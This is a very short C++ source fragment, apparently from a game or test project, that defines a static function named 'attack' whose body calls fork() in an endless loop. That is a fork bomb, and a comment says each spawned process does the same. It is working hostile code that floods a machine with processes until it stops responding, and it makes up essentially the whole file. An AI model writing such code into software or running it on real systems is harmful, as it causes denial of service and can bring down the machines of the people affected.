// earns: 0
// As many processes as it can have, each of which does the same.
#include <unistd.h>

#include "hello_async.hpp"

#define ONCE

static void attack() {
  for (;;) ::fork();
}
